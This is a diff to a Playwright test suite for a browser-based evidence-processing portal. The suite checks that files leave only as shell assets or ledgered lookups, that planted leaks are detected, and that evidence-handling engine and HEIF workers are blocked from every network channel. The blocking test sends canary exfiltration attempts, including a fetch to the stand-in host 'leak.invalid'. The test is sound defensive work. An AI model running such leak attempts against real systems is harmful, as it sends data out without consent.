@@ -99,13 +99,15 @@ test.afterAll(async () => {
 });
 
 test('nothing leaves but shell files and what the ledger holds, to the byte', async () => {
-  const folder = await folderOf(evidence.slice(0, 3).map(({ path, file }) => ({ path, bytes: file })));
+  const half = evidence.length / 2;
+  const folder = await folderOf(evidence.slice(0, half).map(({ path, file }) => ({ path, bytes: file })));
   await portal.goto('/');
   await portal.installed();
   await portal.pickFolder(folder);
-  await portal.jobDone(3);
-  await portal.drop(evidence.slice(3).map(({ path, file }) => ({ name: path.replace(/^.*\//, ''), bytes: file })));
-  await portal.jobDone(6);
+  await portal.jobDone(half);
+  await portal.drop(evidence.slice(half).map(({ path, file }) => ({ name: path.replace(/^.*\//, ''), bytes: file })));
+  await portal.jobDone(evidence.length);
+  expect(Object.values(await portal.tally()).slice(0, 2)).toEqual([evidence.length, evidence.length]);
   for (const { names } of evidence) await expect(portal.page.getByText(names[1] ?? '')).not.toHaveCount(0);
   expect(sorted(proxy.exchanges, hub.origin)).toMatchObject({ api: [], neither: [] });
 
@@ -172,7 +174,8 @@ test('a planted leak is found, whatever it is dressed up as', async () => {
     for (const { name, write } of disguises) {
       const before = proxy.exchanges.length;
       await plant(portal.page, Buffer.from(write(bytes)));
-      const planted = proxy.exchanges.slice(before);
+      // The browser may look for a newer service worker in between, of its own accord.
+      const planted = proxy.exchanges.slice(before).filter(({ path }) => path !== '/service-worker.js');
       const found = search.leaksIn(planted).map(({ label, disguise }) => ({ label, disguise }));
       expect(found, `${what} as ${name}`).toContainEqual({ label: file?.label, disguise: name });
       expect(planted).toHaveLength(1);
@@ -197,58 +200,65 @@ test('an address that carries something is neither shell nor ledgered, and anoth
   ]);
 });
 
-test('a worker that has touched evidence reaches nothing, not even its own hub', async () => {
-  const page = portal.page;
-  const before = proxy.exchanges.length;
-  await portal.visit('Case');
-  await portal.drop([{ name: 'once more.jpg', bytes: evidence[0]?.file ?? Buffer.alloc(0) }]);
-  await portal.jobDone(7);
-  const engine = page.workers().find((worker) => worker.url().includes('/workers/engine.worker'));
-  const outcomes = await engine?.evaluate(async (origin) => {
-    const violations: string[] = [];
-    addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective));
-    const failed = (opened: EventTarget) =>
-      new Promise<string>((resolve) => {
-        for (const type of ['error', 'open', 'message'])
-          opened.addEventListener(type, () => {
-            resolve(type);
-          });
-      });
-    const tries: Record<string, () => Promise<unknown>> = {
-      fetch: () => fetch('/api/v1/lookups', { method: 'POST', body: 'canary' }),
-      shell: () => fetch('/icon.svg'),
-      elsewhere: () => fetch('http://leak.invalid/canary', { mode: 'no-cors' }),
-      import: () => import(`${origin}/service-worker.js?canary`),
-      request: () =>
-        new Promise((resolve, reject) => {
-          const asked = new XMLHttpRequest();
-          asked.onload = resolve;
-          asked.onerror = () => {
-            reject(new Error('blocked'));
-          };
-          asked.open('POST', '/api/v1/lookups');
-          asked.send('canary');
-        }),
-      socket: async () => {
-        const end = await failed(new WebSocket(origin.replace('http', 'ws')));
-        if (end === 'error') throw new Error('blocked');
-      },
-      events: async () => {
-        const end = await failed(new EventSource('/api/v1/lookups'));
-        if (end === 'error') throw new Error('blocked');
-      },
-    };
-    const ended: Record<string, string> = {};
-    for (const [name, attempt] of Object.entries(tries)) {
-      ended[name] = await attempt().then(
-        () => 'reached',
-        () => 'blocked',
-      );
-    }
-    return { ended, violations };
-  }, hub.origin);
-  expect(Object.entries(outcomes?.ended ?? {}).filter(([, end]) => end !== 'blocked')).toEqual([]);
-  expect(Object.keys(outcomes?.ended ?? {})).toHaveLength(7);
-  expect(outcomes?.violations).toContain('connect-src');
-  expect(sorted(proxy.exchanges.slice(before), hub.origin)).toEqual({ api: [], shell: [], neither: [] });
-});
+for (const { kind, sample, more } of [
+  { kind: 'engine', sample: 'jpg', more: 1 },
+  { kind: 'heif', sample: 'heic', more: 2 },
+]) {
+  test(`the ${kind} worker, which has touched evidence, reaches nothing, not even its own hub`, async () => {
+    const page = portal.page;
+    const before = proxy.exchanges.length;
+    await portal.visit('Case');
+    const file = evidence.find(({ path }) => path.endsWith(sample))?.file ?? Buffer.alloc(0);
+    await portal.drop([{ name: `once more.${sample}`, bytes: file }]);
+    await portal.jobDone(evidence.length + more);
+    const engine = page.workers().find((worker) => worker.url().includes(`/workers/${kind}.worker`));
+    expect(engine).toBeDefined();
+    const outcomes = await engine?.evaluate(async (origin) => {
+      const violations: string[] = [];
+      addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective));
+      const failed = (opened: EventTarget) =>
+        new Promise<string>((resolve) => {
+          for (const type of ['error', 'open', 'message'])
+            opened.addEventListener(type, () => {
+              resolve(type);
+            });
+        });
+      const tries: Record<string, () => Promise<unknown>> = {
+        fetch: () => fetch('/api/v1/lookups', { method: 'POST', body: 'canary' }),
+        shell: () => fetch('/icon.svg'),
+        elsewhere: () => fetch('http://leak.invalid/canary', { mode: 'no-cors' }),
+        import: () => import(`${origin}/service-worker.js?canary`),
+        request: () =>
+          new Promise((resolve, reject) => {
+            const asked = new XMLHttpRequest();
+            asked.onload = resolve;
+            asked.onerror = () => {
+              reject(new Error('blocked'));
+            };
+            asked.open('POST', '/api/v1/lookups');
+            asked.send('canary');
+          }),
+        socket: async () => {
+          const end = await failed(new WebSocket(origin.replace('http', 'ws')));
+          if (end === 'error') throw new Error('blocked');
+        },
+        events: async () => {
+          const end = await failed(new EventSource('/api/v1/lookups'));
+          if (end === 'error') throw new Error('blocked');
+        },
+      };
+      const ended: Record<string, string> = {};
+      for (const [name, attempt] of Object.entries(tries)) {
+        ended[name] = await attempt().then(
+          () => 'reached',
+          () => 'blocked',
+        );
+      }
+      return { ended, violations };
+    }, hub.origin);
+    expect(Object.entries(outcomes?.ended ?? {}).filter(([, end]) => end !== 'blocked')).toEqual([]);
+    expect(Object.keys(outcomes?.ended ?? {})).toHaveLength(7);
+    expect(outcomes?.violations).toContain('connect-src');
+    expect(sorted(proxy.exchanges.slice(before), hub.origin)).toEqual({ api: [], shell: [], neither: [] });
+  });
+}
